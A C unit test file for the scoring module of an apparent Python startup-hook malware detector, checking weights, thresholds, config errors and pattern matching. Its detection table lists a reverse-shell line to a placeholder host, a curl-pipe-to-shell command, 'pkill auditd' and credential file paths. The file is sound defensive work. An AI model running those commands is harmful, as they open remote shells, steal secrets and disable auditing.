/* The data that is in the program, as it judges; and what is wrong with data that somebody writes. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "builtin.h"
#include "judgement.h"
#include "limits.h"
#include "temp_tree.h"

static struct judgement *defaults(void)
{
	_cleanup_problems_ struct problems problems = PROBLEMS_INIT;
	struct judgement *j = NULL;

	if (judgement_load(NULL, &problems, &j) < 0)
		fail_msg("%s:%u:%u: %s", problems.list[0].file, problems.list[0].line, problems.list[0].column,
			 problems.list[0].text);
	assert_int_equal(problems.count, 0);
	return j;
}

static struct judgement *with(const char *text)
{
	_cleanup_problems_ struct problems problems = PROBLEMS_INIT;
	struct judgement *j = NULL;

	if (judgement_load_text(bytes_of(text), "t", &problems, &j) < 0)
		fail_msg("%s:%u:%u: %s", problems.list[0].file, problems.list[0].line, problems.list[0].column,
			 problems.list[0].text);
	return j;
}

/* ---- weights ------------------------------------------------------------------------------- */

#define BIT(name) INDICATOR_BIT(INDICATOR_##name)

static enum judgement_answer answer(const struct judgement *j, uint64_t indicators, enum judged_as as)
{
	int score = 0;

	for (unsigned i = 0; i < INDICATOR_COUNT; i++)
		if (indicators & INDICATOR_BIT(i))
			score += judgement_weight(j, (enum indicator)i, as);
	return judgement_of_score(j, score);
}

static void knows_the_thresholds(void **state)
{
	_cleanup_(judgement_freep) struct judgement *j = defaults();

	(void)state;
	assert_int_equal(judgement_of_score(j, 0), JUDGEMENT_NOTHING);
	assert_int_equal(judgement_of_score(j, 39), JUDGEMENT_NOTHING);
	assert_int_equal(judgement_of_score(j, 40), JUDGEMENT_SUSPICIOUS);
	assert_int_equal(judgement_of_score(j, 79), JUDGEMENT_SUSPICIOUS);
	assert_int_equal(judgement_of_score(j, 80), JUDGEMENT_MALICIOUS);
}

/* What genuine tools do, in the company in which they do it. */
static void lets_genuine_tools_be(void **state)
{
	static const struct {
		uint64_t indicators;
		enum judged_as as;
	} rows[] = {
		{ BIT(EXECUTE_COMPUTED), JUDGED_LINE },				/* hunter, manhole */
		{ BIT(EXECUTE_COMPUTED) | BIT(LONG_LINE), JUDGED_LINE },
		{ BIT(IMPORT_HOOK), JUDGED_LINE },
		{ BIT(IMPORT_HOOK) | BIT(LONG_LINE), JUDGED_LINE },		/* mplcursors */
		{ BIT(IMPORT_HOOK), JUDGED_MODULE },				/* virtualenv, finders */
		{ BIT(IMPORT_HOOK) | BIT(PATH_INSERT), JUDGED_MODULE },
		{ BIT(IMPORT_HOOK) | BIT(BACKGROUND), JUDGED_MODULE },		/* a lock and a finder */
		{ BIT(PATH_INSERT), JUDGED_LINE },				/* Homebrew */
		{ BIT(PATH_INSERT) | BIT(ADDRESS), JUDGED_MODULE },
		{ BIT(ADDRESS), JUDGED_LINE },
		{ BIT(ADDRESS) | BIT(HARVEST), JUDGED_MODULE },
		{ BIT(FILE_WRITE), JUDGED_MODULE },				/* a cache */
		{ BIT(ENCODED_BLOB), JUDGED_MODULE },
		{ BIT(PATH_VARIABLE), JUDGED_LINE },				/* PYTHONPATH=/opt/app/lib */
		{ BIT(STARTUP_VARIABLE), JUDGED_LINE },				/* PYTHONSTARTUP=~/.pythonrc */
		{ BIT(SHADOWS), JUDGED_MODULE },
		{ BIT(NOT_UNDERSTOOD), JUDGED_LINE },
		{ BIT(EXECUTE_FILE), JUDGED_INTERACTIVE },
	};
	_cleanup_(judgement_freep) struct judgement *j = defaults();

	(void)state;
	for (size_t i = 0; i < ELEMENTSOF(rows); i++)
		if (answer(j, rows[i].indicators, rows[i].as) != JUDGEMENT_NOTHING)
			fail_msg("row %zu is suspicious", i);
}

static void suspects_what_only_intruders_do(void **state)
{
	static const struct {
		uint64_t indicators;
		enum judged_as as;
		enum judgement_answer answer;
	} rows[] = {
		{ BIT(PROCESS), JUDGED_LINE, JUDGEMENT_MALICIOUS },
		{ BIT(PROCESS), JUDGED_MODULE, JUDGEMENT_SUSPICIOUS },
		{ BIT(PROCESS), JUDGED_LIBRARY, JUDGEMENT_SUSPICIOUS },
		{ BIT(PROCESS), JUDGED_INTERACTIVE, JUDGEMENT_SUSPICIOUS },
		{ BIT(NETWORK), JUDGED_LINE, JUDGEMENT_MALICIOUS },
		{ BIT(NETWORK), JUDGED_MODULE, JUDGEMENT_SUSPICIOUS },
		{ BIT(NATIVE), JUDGED_MODULE, JUDGEMENT_SUSPICIOUS },		/* sitecustomize.so */
		{ BIT(EXECUTE_FILE), JUDGED_LINE, JUDGEMENT_SUSPICIOUS },
		{ BIT(EXECUTE_INPUT), JUDGED_LINE, JUDGEMENT_SUSPICIOUS },
		{ BIT(EXECUTE_INPUT), JUDGED_MODULE, JUDGEMENT_SUSPICIOUS },
		{ BIT(EXECUTE_INPUT), JUDGED_INTERACTIVE, JUDGEMENT_SUSPICIOUS },
		{ BIT(INTERFERENCE), JUDGED_LINE, JUDGEMENT_SUSPICIOUS },
		{ BIT(DECODE_EXECUTE), JUDGED_LINE, JUDGEMENT_MALICIOUS },
		{ BIT(EXECUTE_NETWORK), JUDGED_MODULE, JUDGEMENT_MALICIOUS },
		{ BIT(PROCESS) | BIT(DECODE_EXECUTE), JUDGED_LINE, JUDGEMENT_MALICIOUS },
		{ BIT(PROCESS) | BIT(BACKGROUND), JUDGED_LINE, JUDGEMENT_MALICIOUS },
		{ BIT(PROCESS) | BIT(HIDDEN_TEXT), JUDGED_LINE, JUDGEMENT_MALICIOUS },
		{ BIT(NETWORK) | BIT(CREDENTIALS), JUDGED_MODULE, JUDGEMENT_MALICIOUS },
		{ BIT(UNSAFE_PATH), JUDGED_LINE, JUDGEMENT_SUSPICIOUS },
		{ BIT(PATH_VARIABLE) | BIT(UNSAFE_PATH), JUDGED_LINE, JUDGEMENT_SUSPICIOUS },
		{ BIT(STARTUP_VARIABLE) | BIT(UNSAFE_PATH), JUDGED_LINE, JUDGEMENT_SUSPICIOUS },
		{ BIT(HIJACK_VARIABLE), JUDGED_LINE, JUDGEMENT_SUSPICIOUS },
		{ BIT(INTERPRETER_CONFIG), JUDGED_LINE, JUDGEMENT_SUSPICIOUS },
		{ BIT(FOREIGN_COMMAND), JUDGED_INTERACTIVE, JUDGEMENT_SUSPICIOUS },
		{ BIT(SUPPRESSES), JUDGED_LINE, JUDGEMENT_SUSPICIOUS },
		{ BIT(MISSING_TARGET), JUDGED_LINE, JUDGEMENT_SUSPICIOUS },
		{ BIT(KNOWN_NAME), JUDGED_LINE, JUDGEMENT_SUSPICIOUS },
		{ BIT(UNCHECKED_BYTECODE), JUDGED_MODULE, JUDGEMENT_SUSPICIOUS },
		{ BIT(BYTECODE_DIFFERS), JUDGED_LIBRARY, JUDGEMENT_SUSPICIOUS },
		{ BIT(BREAKS_START), JUDGED_LINE, JUDGEMENT_SUSPICIOUS },
	};
	_cleanup_(judgement_freep) struct judgement *j = defaults();

	(void)state;
	for (size_t i = 0; i < ELEMENTSOF(rows); i++)
		if (answer(j, rows[i].indicators, rows[i].as) != rows[i].answer)
			fail_msg("row %zu is judged %d", i, answer(j, rows[i].indicators, rows[i].as));
}

static void a_later_text_changes_one_weight(void **state)
{
	_cleanup_(judgement_freep) struct judgement *before = defaults();
	_cleanup_(judgement_freep) struct judgement *j =
		with("thresholds: { malicious: 120 }\n"
		     "indicators:\n  process: { weight: 7 }\n"
		     "  network: { weight: { line: 1, module: 2, library: 3, interactive: 4 } }\n");

	(void)state;
	assert_int_equal(judgement_weight(j, INDICATOR_PROCESS, JUDGED_LINE), 7);
	assert_int_equal(judgement_weight(j, INDICATOR_PROCESS, JUDGED_INTERACTIVE), 7);
	assert_int_equal(judgement_weight(j, INDICATOR_NETWORK, JUDGED_LINE), 1);
	assert_int_equal(judgement_weight(j, INDICATOR_NETWORK, JUDGED_MODULE), 2);
	assert_int_equal(judgement_weight(j, INDICATOR_NETWORK, JUDGED_MODULE_FUNCTION), 2);
	assert_int_equal(judgement_weight(j, INDICATOR_NETWORK, JUDGED_LIBRARY), 3);
	assert_int_equal(judgement_weight(j, INDICATOR_NETWORK, JUDGED_INTERACTIVE), 4);
	assert_int_equal(judgement_weight(j, INDICATOR_NATIVE, JUDGED_LINE),
			 judgement_weight(before, INDICATOR_NATIVE, JUDGED_LINE));
	assert_int_equal(judgement_of_score(j, 119), JUDGEMENT_SUSPICIOUS);
	assert_int_equal(judgement_of_score(j, 120), JUDGEMENT_MALICIOUS);
}

/* ---- names ------------------------------------------------------------------------------------ */

static void knows_names(void **state)
{
	static const struct {
		const char *name;
		unsigned classes;
	} rows[] = {
		{ "os.system", NAME_PROCESS },
		{ "posix.system", NAME_PROCESS },
		{ "os.execvp", NAME_PROCESS },
		{ "subprocess.Popen", NAME_PROCESS },
		{ "subprocess32.Popen", NAME_PROCESS },
		{ "_posixsubprocess.fork_exec", NAME_PROCESS },
		{ "popen2.Popen3", NAME_PROCESS },
		{ "pexpect.spawn", NAME_PROCESS },
		{ "antigravity", NAME_PROCESS },
		{ "os.fork", NAME_BACKGROUND },
		{ "_thread.start_new_thread", NAME_BACKGROUND },
		{ "socket.socket", NAME_NETWORK },
		{ "socket.socket.connect", NAME_NETWORK },
		{ "_socket.socket", NAME_NETWORK },
		{ "urllib2.urlopen", NAME_NETWORK },
		{ "six.moves.urllib.request.urlopen", NAME_NETWORK },
		{ "httplib.HTTPSConnection", NAME_NETWORK },
		{ "ctypes.CDLL", NAME_NATIVE },
		{ "ctypes.CDLL.system", NAME_PROCESS },
		{ "base64.b85decode", NAME_DECODE },
		{ "marshal.loads", NAME_DECODE | NAME_UNMARSHAL },
		{ "cPickle.loads", NAME_DECODE | NAME_UNMARSHAL },
		{ "exec", NAME_EXECUTE },
		{ "builtins.exec", NAME_EXECUTE },
		{ "__builtins__.eval", NAME_EXECUTE },
		{ "__builtins__.__dict__.eval", NAME_EXECUTE },
		{ "__builtins__", 0 },			/* nothing is left of it, see below */
		{ "eventlet.green.socket.socket", NAME_NETWORK },
		{ "compile", NAME_COMPILE },
		{ "importlib._bootstrap_external.SourceFileLoader", NAME_LOAD_FILE },
		{ "imp.load_dynamic", NAME_NATIVE | NAME_LOAD_FILE },
		{ "pathlib.PosixPath.write_text", NAME_WRITE_FILE },
		{ "site.addsitedir", NAME_PATH_INSERT },
		{ "sys.path.insert", NAME_PATH_INSERT },
		{ "sys.meta_path.insert", NAME_IMPORT_HOOK },
		{ "os._exit", NAME_INTERFERENCE },
		{ "sys.gettrace", NAME_ANTI_ANALYSIS },
		{ "os.walk", NAME_HARVEST },
		{ "getattr", NAME_REFLECTION },
		{ "builtins.__import__", NAME_IMPORT },
		/* What is used harmlessly, and what only begins or ends like a name. */
		{ "os", 0 },
		{ "os.environ.get", 0 },
		{ "os.getenv", 0 },
		{ "os.path.join", 0 },
		{ "os.systems", 0 },
		{ "os.system.x", 0 },
		{ "xos.system", 0 },
		{ "subprocess", 0 },
		{ "subprocess.DEVNULL", 0 },
		{ "sys.path.append", 0 },
		{ "urllib.parse.quote", 0 },
		{ "commands", 0 },
		{ "platform.system", 0 },
		{ "sys.modules.setdefault", 0 },
		{ "importlib.util.module_from_spec", 0 },
		{ "importlib.machinery.PathFinder.find_spec", 0 },
		{ "", 0 },
		{ ".", 0 },
		{ "os..system", 0 },
		{ "builtins", 0 },
	};
	_cleanup_(judgement_freep) struct judgement *j = defaults();

	(void)state;
	for (size_t i = 0; i < ELEMENTSOF(rows); i++)
		if (judgement_name(j, bytes_of(rows[i].name)) != rows[i].classes)
			fail_msg("%s is of %x", rows[i].name, judgement_name(j, bytes_of(rows[i].name)));
}

/* Longer than any entry, with as many dots as letters. */
static void survives_long_names(void **state)
{
	_cleanup_(judgement_freep) struct judgement *j = defaults();
	_cleanup_str_ struct str name = STR_INIT;

	(void)state;
	assert_int_equal(str_append_text(&name, "builtins.commands"), 0);
	for (size_t i = 0; i < 100000; i++)
		assert_int_equal(str_append_text(&name, ".a"), 0);
	assert_int_equal(judgement_name(j, str_bytes(&name)), NAME_PROCESS);	/* commands.* */
	assert_int_equal(judgement_name(j, bytes_slice(str_bytes(&name), 8, 100000)), 0);
}

/* ---- texts ------------------------------------------------------------------------------------- */

static void knows_texts(void **state)
{
	static const struct {
		const char *text;
		uint64_t indicators;
	} rows[] = {
		{ "~/.ssh/id_rsa", BIT(CREDENTIALS) },
		{ "/home/a/.ssh", BIT(CREDENTIALS) },
		{ "C:\\users\\.AWS/credentials", BIT(CREDENTIALS) },
		{ "AWS_SECRET_ACCESS_KEY", BIT(CREDENTIALS) },
		{ "/etc/shadow", BIT(CREDENTIALS) },
		{ "my_id_ed25519", BIT(CREDENTIALS) },
		{ "/root/.config/google-chrome/Default/Login Data", BIT(CREDENTIALS) },
		{ "/proc/self/environ", BIT(HARVEST) },
		{ "cat /etc/passwd", BIT(HARVEST) },
		{ "/etc/cron.d/x", BIT(PERSISTENCE) },
		{ "crontab -", BIT(PERSISTENCE) },
		{ "~/.bashrc", BIT(PERSISTENCE) },
		{ "/etc/ld.so.preload", BIT(PERSISTENCE) },
		{ "/x/sitecustomize.py", BIT(PERSISTENCE) },
		{ "~/.config/systemd/user/x.service", BIT(PERSISTENCE) },
		{ "http://x.example", BIT(ADDRESS) },
		{ "HTTPS://x.example", BIT(ADDRESS) },
		{ "bash -i >& /dev/tcp/203.0.113.1/4444", BIT(NETWORK) | BIT(PROCESS) },
		{ "203.0.113.1:4444", BIT(ADDRESS) },
		{ "tcp 1.2.3.4:5", BIT(ADDRESS) },
		{ "curl -s https://x | sh", BIT(NETWORK) | BIT(ADDRESS) | BIT(PROCESS) },
		{ "TracerPid:", BIT(ANTI_ANALYSIS) },
		{ "pkill auditd", BIT(INTERFERENCE) },
		/* Words that hold those, versions, times, what else is harmless. */
		{ "", 0 },
		{ "tracerpid:", 0 },
		{ "killall -9 x", BIT(INTERFERENCE) },
		{ "killall-", BIT(INTERFERENCE) },
		{ "/etc/pyhookd/rules.d", BIT(INTERFERENCE) },
		{ "XAWS_SECRET_ACCESS_KEY", 0 },
		{ "AWS_SECRET_ACCESS_KEYS", 0 },
		{ "/etc/shadows", 0 },
		{ "bashrc", 0 },
		{ ".bashrcs", 0 },
		{ "whoamiable", 0 },
		{ "/usr/src/pyhookd-tests/x", 0 },
		{ "killall-x", 0 },
		{ "http:/x", 0 },
		{ "1.2.3.4", 0 },
		{ "1.2.3:4", 0 },
		{ "1.2.3.4.5:6", 0 },
		{ "1.2.3.4567:8", 0 },
		{ "v1.2.3.4:5", 0 },
		{ "1.2.3.4:x", 0 },
		{ "12:30:15.123", 0 },
		{ "lib/python3/dist-packages", 0 },
		{ "Failed to load hunter conf", 0 },
		{ "COVERAGE_PROCESS_START", 0 },
		{ "finish -c", 0 },
	};
	_cleanup_(judgement_freep) struct judgement *j = defaults();

	(void)state;
	for (size_t i = 0; i < ELEMENTSOF(rows); i++)
		if (judgement_text(j, bytes_of(rows[i].text)) != rows[i].indicators)
			fail_msg("'%s' is %llx", rows[i].text,
				 (unsigned long long)judgement_text(j, bytes_of(rows[i].text)));
}

static uint32_t random_seed = 7;

static unsigned random_below(unsigned n)
{
	random_seed = random_seed * 1664525u + 1013904223u;
	return (random_seed >> 8) % n;
}

/* Against looking for each text by itself: endings of each other, overlaps, all in an alphabet of two. */
static void finds_what_looking_one_by_one_finds(void **state)
{
	static const struct {
		const char *text;
		enum indicator indicator;
	} texts[] = {
		{ "aab", INDICATOR_PROCESS }, { "aba", INDICATOR_NETWORK }, { "abab", INDICATOR_NATIVE },
		{ "babaab", INDICATOR_HARVEST }, { "bbbb", INDICATOR_OBFUSCATION }, { "baab", INDICATOR_BACKGROUND },
		{ "aabb", INDICATOR_ADDRESS }, { "bbabbabb", INDICATOR_SHADOWS },
	};
	_cleanup_str_ struct str data = STR_INIT;
	_cleanup_(judgement_freep) struct judgement *j = NULL;
	_cleanup_(judgement_freep) struct judgement *before = defaults();

	(void)state;
	assert_int_equal(str_append_text(&data, "texts:\n"), 0);
	for (size_t i = 0; i < ELEMENTSOF(texts); i++)
		assert_int_equal(str_appendf(&data, "  %s: ['*%s*']\n", indicator_to_string(texts[i].indicator),
					     texts[i].text), 0);
	j = with(data.buf);
	for (size_t round = 0; round < 20000; round++) {
		char text[24];
		size_t len = random_below(sizeof(text));
		uint64_t expected = 0;

		for (size_t i = 0; i < len; i++)
			text[i] = random_below(2) ? 'a' : random_below(4) ? 'b' : 'c';
		for (size_t i = 0; i < ELEMENTSOF(texts); i++)
			if (bytes_find((struct bytes){ text, len }, bytes_of(texts[i].text), 0) >= 0)
				expected |= INDICATOR_BIT(texts[i].indicator);
		if (judgement_text(before, (struct bytes){ text, len }) != 0)
			continue;	/* a text of the defaults */
		if (judgement_text(j, (struct bytes){ text, len }) != expected)
			fail_msg("'%.*s'", (int)len, text);
	}
}

static void texts_are_bytes(void **state)
{
	_cleanup_(judgement_freep) struct judgement *j = defaults();

	(void)state;
	assert_true(judgement_text(j, BYTES_LIT("\0\xff/etc/shadow\0")) == BIT(CREDENTIALS));
	assert_true(judgement_text(j, BYTES_LIT("/etc/shad\0ow")) == 0);
	assert_true(judgement_text(j, BYTES_NONE) == 0);
}

/* What it says for people; what a later text leaves out stays. */
static void knows_what_to_call_it(void **state)
{
	_cleanup_(judgement_freep) struct judgement *j = defaults();
	_cleanup_(judgement_freep) struct judgement *later =
		with("indicators:\n  process: { weight: 1, technique: T1059.004 }\n  network: { weight: 1, description: calls }\n");

	(void)state;
	for (unsigned i = 0; i < INDICATOR_COUNT; i++)
		assert_true(judgement_description(j, (enum indicator)i).len > 0);
	assert_true(bytes_equal(judgement_technique(j, INDICATOR_DECODE_EXECUTE), BYTES_LIT("T1140")));
	assert_true(bytes_equal(judgement_technique(later, INDICATOR_PROCESS), BYTES_LIT("T1059.004")));
	assert_true(bytes_equal(judgement_description(later, INDICATOR_PROCESS), judgement_description(j, INDICATOR_PROCESS)));
	assert_true(bytes_equal(judgement_description(later, INDICATOR_NETWORK), BYTES_LIT("calls")));
	assert_true(bytes_equal(judgement_technique(later, INDICATOR_NETWORK), judgement_technique(j, INDICATOR_NETWORK)));
}

/* ---- what is wrong --------------------------------------------------------------------------------- */

static void says_what_is_wrong(void **state)
{
	static const struct {
		const char *text, *problem;
	} rows[] = {
		{ "weights: {}\n", "t:1:1: unknown key 'weights'" },
		{ "- a\n", "t:1:1: must be a mapping ('key: value')" },
		{ "thresholds: 5\n", "t:1:13: must be a mapping of 'suspicious' and 'malicious'" },
		{ "thresholds: { harmless: 5 }\n", "t:1:15: unknown threshold 'harmless'" },
		{ "thresholds: { suspicious: 0 }\n", "t:1:27: must be a number from 1 to 1000" },
		{ "thresholds: { suspicious: 90 }\n", "t:1:13: 'suspicious' must not be above 'malicious'" },
		{ "indicators: []\n", "t:1:13: must be a mapping of indicators" },
		{ "indicators:\n  proces: { weight: 1 }\n", "t:2:3: unknown indicator 'proces'" },
		{ "indicators:\n  process: 5\n", "t:2:12: must be a mapping with 'weight'" },
		{ "indicators:\n  process: { description: x }\n", "t:2:12: has no 'weight'" },
		{ "indicators:\n  process: { weight: -5 }\n", "t:2:22: must be a number from 0 to 1000" },
		{ "indicators:\n  process: { weight: 1001 }\n", "t:2:22: must be a number from 0 to 1000" },
		{ "indicators:\n  process: { weight: { line: 5 } }\n", "t:2:22: has no weight for 'module'" },
		{ "indicators:\n  process: { weight: { lines: 5 } }\n", "t:2:24: unknown place 'lines'" },
		{ "indicators:\n  process: { weight: 5, wieght: 5 }\n", "t:2:25: unknown key 'wieght'" },
		{ "indicators:\n  process: { weight: 5, description: [] }\n", "t:2:38: must be a text of at most 200 bytes" },
		{ "indicators:\n  process: { weight: 5, technique: T1546.01x }\n",
		  "t:2:36: must be a technique of ATT&CK, as T1546.018" },
		{ "indicators:\n  process: { weight: 5, technique: T1546.0188 }\n",
		  "t:2:36: must be a technique of ATT&CK, as T1546.018" },
		{ "indicators:\n  process: { weight: 5, technique: T15 }\n",
		  "t:2:36: must be a technique of ATT&CK, as T1546.018" },
		{ "aliases: []\n", "t:1:10: must be a mapping of names to names" },
		{ "aliases: { a: [] }\n", "t:1:15: 'a' must be a name that stands for another" },
		{ "aliases: { a..b: c }\n", "t:1:18: 'a..b' must be a name that stands for another" },
		{ "names: 5\n", "t:1:8: must be a mapping of lists" },
		{ "names: { proces: [a] }\n", "t:1:10: unknown class 'proces'" },
		{ "names: { process: a }\n", "t:1:19: 'process' must be a list" },
		{ "names: { process: [[]] }\n", "t:1:20: 'process' must hold texts" },
		{ "names: { process: ['a b'] }\n", "t:1:20: 'a b' is no dotted name, or too long" },
		{ "names: { process: ['*.a'] }\n", "t:1:20: '*.a' is no dotted name, or too long" },
		{ "names: { process: ['.*'] }\n", "t:1:20: '.*' is no dotted name, or too long" },
		{ "texts: { proces: ['abc'] }\n", "t:1:10: unknown indicator 'proces'" },
		{ "texts: { process: ['ab*'] }\n", "t:1:20: 'ab*' is too short or too long to be looked for" },
		{ "texts: { process: ['*'] }\n", "t:1:20: '*' is too short or too long to be looked for" },
		{ "a: [\n", NULL },
	};

	(void)state;
	for (size_t i = 0; i < ELEMENTSOF(rows); i++) {
		_cleanup_problems_ struct problems problems = PROBLEMS_INIT;
		_cleanup_free_ char *said = NULL;
		struct judgement *j = (struct judgement *)0x1;

		assert_int_equal(judgement_load_text(bytes_of(rows[i].text), "t", &problems, &j), -EINVAL);
		assert_ptr_equal(j, (struct judgement *)0x1);
		assert_true(problems.count > 0);
		if (!rows[i].problem)
			continue;
		assert_true(asprintf(&said, "%s:%u:%u: %s", problems.list[0].file, problems.list[0].line,
				     problems.list[0].column, problems.list[0].text) > 0);
		assert_string_equal(said, rows[i].problem);
	}
}

static void bounds_the_vocabulary(void **state)
{
	_cleanup_problems_ struct problems problems = PROBLEMS_INIT;
	_cleanup_str_ struct str data = STR_INIT;
	struct judgement *j = NULL;

	(void)state;
	assert_int_equal(str_append_text(&data, "texts:\n  process:\n"), 0);
	for (size_t i = 0; i < VOCABULARY_TEXTS_BYTES_MAX / 16; i++)
		assert_int_equal(str_appendf(&data, "    - 'abcdefgh%08zu'\n", i), 0);
	assert_int_equal(judgement_load_text(str_bytes(&data), "t", &problems, &j), -EINVAL);
	assert_non_null(strstr(problems.list[0].text, "is one text too many"));

	str_clear(&data);
	assert_int_equal(str_append_text(&data, "names:\n  process:\n"), 0);
	for (size_t i = 0; i < VOCABULARY_ENTRIES_MAX; i++)
		assert_int_equal(str_appendf(&data, "    - a%zu\n", i), 0);
	problems_release(&problems);
	assert_int_equal(judgement_load_text(str_bytes(&data), "t", &problems, &j), -EINVAL);
	assert_non_null(strstr(problems.list[0].text, "is one name too many"));
}

/* ---- directories --------------------------------------------------------------------------------------- */

static void put(const char *dir, const char *name, const char *text)
{
	_cleanup_fclose_ FILE *f = NULL;
	_cleanup_free_ char *path = NULL;

	assert_true(asprintf(&path, "%s/%s", dir, name) > 0);
	f = fopen(path, "we");
	assert_non_null(f);
	assert_true(fputs(text, f) >= 0);
}

static void directories_come_over_the_defaults(void **state)
{
	_cleanup_problems_ struct problems problems = PROBLEMS_INIT;
	_cleanup_(judgement_freep) struct judgement *j = NULL;
	_cleanup_(temp_release) struct temp a = { .fd = -1 }, b = { .fd = -1 };
	_cleanup_free_ char *mask = NULL;
	char *dirs[] = { a.path, (char *)"/nonexistent/judgement.d", b.path, NULL };

	(void)state;
	temp_make(&a);
	temp_make(&b);
	put(a.path, "50-site.yml", "indicators: { process: { weight: 1 }, network: { weight: 1 } }\n");
	put(b.path, "50-site.yml", "indicators: { process: { weight: 2 } }\n");
	put(b.path, "vocabulary.yml", "names: { process: [acme.run] }\n");
	put(b.path, ".hidden.yml", "nonsense\n");
	put(b.path, "README", "nonsense\n");
	assert_int_equal(judgement_load(dirs, &problems, &j), 0);
	assert_int_equal(judgement_weight(j, INDICATOR_PROCESS, JUDGED_LINE), 80);	/* indicators.yml comes later */
	assert_int_equal(judgement_name(j, BYTES_LIT("acme.run")), NAME_PROCESS);
	assert_int_equal(judgement_name(j, BYTES_LIT("os.system")), 0);			/* replaced */
	assert_non_null(judgement_template(j, TEMPLATE_PTH_LINE, BYTES_LIT("/s/_virtualenv.pth"),
					   BYTES_LIT("import _virtualenv")));
	j = judgement_free(j);

	put(b.path, "site.yml", "indicators: { process: { weight: 3 } }\n");
	assert_true(asprintf(&mask, "%s/templates.yml", b.path) > 0);
	assert_int_equal(symlink("/dev/null", mask), 0);
	assert_int_equal(judgement_load(dirs, &problems, &j), 0);
	assert_int_equal(judgement_weight(j, INDICATOR_PROCESS, JUDGED_LINE), 3);
	assert_null(judgement_template(j, TEMPLATE_PTH_LINE, BYTES_LIT("/s/_virtualenv.pth"),
				       BYTES_LIT("import _virtualenv")));
}

static void nothing_may_be_without_a_weight(void **state)
{
	_cleanup_problems_ struct problems problems = PROBLEMS_INIT;
	_cleanup_(temp_release) struct temp t = { .fd = -1 };
	struct judgement *j = NULL;
	char *dirs[] = { t.path, NULL };

	(void)state;
	temp_make(&t);
	put(t.path, "indicators.yml", "indicators: { process: { weight: 1 } }\n");
	assert_int_equal(judgement_load(dirs, &problems, &j), -EINVAL);
	assert_null(j);
	assert_int_equal(problems.count, INDICATOR_COUNT - 1 + 1);
	assert_string_equal(problems.list[0].text, "no file gives a weight for the indicator 'decode-execute'");
	assert_string_equal(problems.list[INDICATOR_COUNT - 1].text,
			    "no file gives the thresholds 'suspicious' and 'malicious'");
}

/* ---- the manual --------------------------------------------------------------------------------------------- */

/* pyhookd.judgement(5) explains every indicator. */
static void the_manual_knows_every_indicator(void **state)
{
	_cleanup_fclose_ FILE *page = fopen("docs/pyhookd.judgement.5", "re");
	uint64_t seen = 0;
	char line[1024];
	bool here = false;

	(void)state;
	assert_non_null(page);
	while (fgets(line, sizeof(line), page)) {
		struct bytes text = bytes_of(line);
		enum indicator i;

		text.len--;	/* the newline */
		if (bytes_has_prefix(text, BYTES_LIT(".S")))
			here = bytes_equal(text, BYTES_LIT(".Ss Indicators"));
		if (!here || !bytes_has_prefix(text, BYTES_LIT(".It Cm ")))
			continue;
		if (indicator_from_string(bytes_slice(text, 7, text.len - 7), &i) < 0)
			fail_msg("the manual knows '%s'", line);
		seen |= INDICATOR_BIT(i);
	}
	for (unsigned i = 0; i < INDICATOR_COUNT; i++)
		if (!(seen & INDICATOR_BIT(i)))
			fail_msg("the manual lacks %s", indicator_to_string((enum indicator)i));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(knows_the_thresholds),
		cmocka_unit_test(lets_genuine_tools_be),
		cmocka_unit_test(suspects_what_only_intruders_do),
		cmocka_unit_test(a_later_text_changes_one_weight),
		cmocka_unit_test(knows_names),
		cmocka_unit_test(survives_long_names),
		cmocka_unit_test(knows_texts),
		cmocka_unit_test(finds_what_looking_one_by_one_finds),
		cmocka_unit_test(texts_are_bytes),
		cmocka_unit_test(knows_what_to_call_it),
		cmocka_unit_test(says_what_is_wrong),
		cmocka_unit_test(bounds_the_vocabulary),
		cmocka_unit_test(directories_come_over_the_defaults),
		cmocka_unit_test(nothing_may_be_without_a_weight),
		cmocka_unit_test(the_manual_knows_every_indicator),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
